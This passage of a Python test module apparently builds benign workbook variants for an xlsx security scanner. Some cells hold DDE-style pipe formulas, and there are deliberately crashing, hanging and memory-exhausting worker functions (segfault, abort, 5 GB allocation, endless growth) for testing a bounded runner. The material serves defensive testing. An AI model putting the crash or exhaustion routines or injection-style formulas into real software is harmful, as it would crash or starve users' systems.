        "webservice-formula.xlsx",
    }
)

PIPES = (
    '<row r="1999"><c r="A1999"><f>"a|b DDE(x)"&amp;B2</f></c><c r="B1999"><f>\'Q|1\'!A1</f>'
    '</c><c r="C1999"><f>SUM(Table1[[#This Row],[a\'[b|c]])</f></c></row>'
)
SVG = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'

BENIGN: list[tuple[str, Builder]] = [
    ("base.xlsx", lambda pkg: pkg.zip()),
    ("pipes-in-strings.xlsx", lambda pkg: pkg.cells(PIPES).zip()),
    ("utf8-bom.xlsx", lambda pkg: _replace(pkg, pkg.sheet, b"\xef\xbb\xbf" + pkg.parts[pkg.sheet])),
    ("utf16-sheet.xlsx", lambda pkg: _utf16(pkg, pkg.sheet, "", "utf-16")),
    ("windows-1252.xlsx", lambda pkg: _reencode(pkg, "xl/styles.xml", "windows-1252", "cp1252")),
    ("stored.xlsx", lambda pkg: raw_zip([Entry(n, d, method=0) for n, d in pkg.parts.items()])),
    (
        "folder-entries.xlsx",
        lambda pkg: _extra(pkg, Entry("xl/", method=0), Entry("xl/worksheets/", method=0)),
    ),
    (
        "prefixed-namespace.xlsx",
        lambda pkg: _replace(
            pkg,
            pkg.sheet,
            _sheet('<x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row>', prefix="x"),
        ),
    ),
    (
        "cells-without-refs.xlsx",
        lambda pkg: _replace(
            pkg,
            pkg.sheet,
            _sheet("<row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>"),
        ),
    ),
    # Pictures are never parsed by a workbook reader, so a DTD in an SVG is left alone.
    ("svg-with-doctype.xlsx", lambda pkg: _extra(pkg, Entry("xl/media/image9.svg", SVG))),
    ("largest-allowed-sheet.xlsx", lambda pkg: _replace(pkg, pkg.sheet, _grid(600, 150))),
]


def _build(base: Path, out_dir: Path, name: str, builder: Builder) -> Path:
    path = out_dir / name
    path.write_bytes(builder(Pkg(base)))
    return path


def build_corpus(base: Path, out_dir: Path) -> list[tuple[Path, str]]:
    """Write every hostile case into ``out_dir``: (file, the finding code it must get)."""
    out_dir.mkdir(parents=True, exist_ok=True)
    return [(_build(base, out_dir, name, builder), code) for name, code, builder in CASES]


def build_benign(base: Path, out_dir: Path) -> list[Path]:
    """Write unusual but harmless variants of ``base`` that must get no finding."""
    out_dir.mkdir(parents=True, exist_ok=True)
    return [_build(base, out_dir, name, builder) for name, builder in BENIGN]


# --- parse functions for the bounded runner (run in a worker, found by name) -------------------


def file_size(path: str) -> int:
    return os.path.getsize(path)


def sheet_names(path: str) -> list[str]:
    import openpyxl

    return openpyxl.load_workbook(path, read_only=True).sheetnames


def calamine_rows(path: str) -> list[int]:
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_path(path)
    return [len(book.get_sheet_by_index(i).to_python()) for i in range(len(book.sheet_names))]


def segfault(path: str) -> None:
    import ctypes

    ctypes.string_at(0)


def abort(path: str) -> None:
    os.abort()


def exit_at_once(path: str) -> None:
    os._exit(3)


def hang(path: str) -> None:
    time.sleep(3600)


def pause_unless(quick: str, path: str) -> str:
    if path != quick:
        time.sleep(3600)
    return path


def allocate_5gb(path: str) -> int:
    return len(bytearray(5 * 1024 * MB))


def allocate_gradually(path: str) -> int:
    held = []
    while True:
        held.append(bytes(64 * MB))  # calloc'd: address space grows, pages stay untouched


def raise_error(path: str) -> None:
    raise ValueError(f"cannot read {path}")


def worker_pid(path: str) -> int:
    return os.getpid()
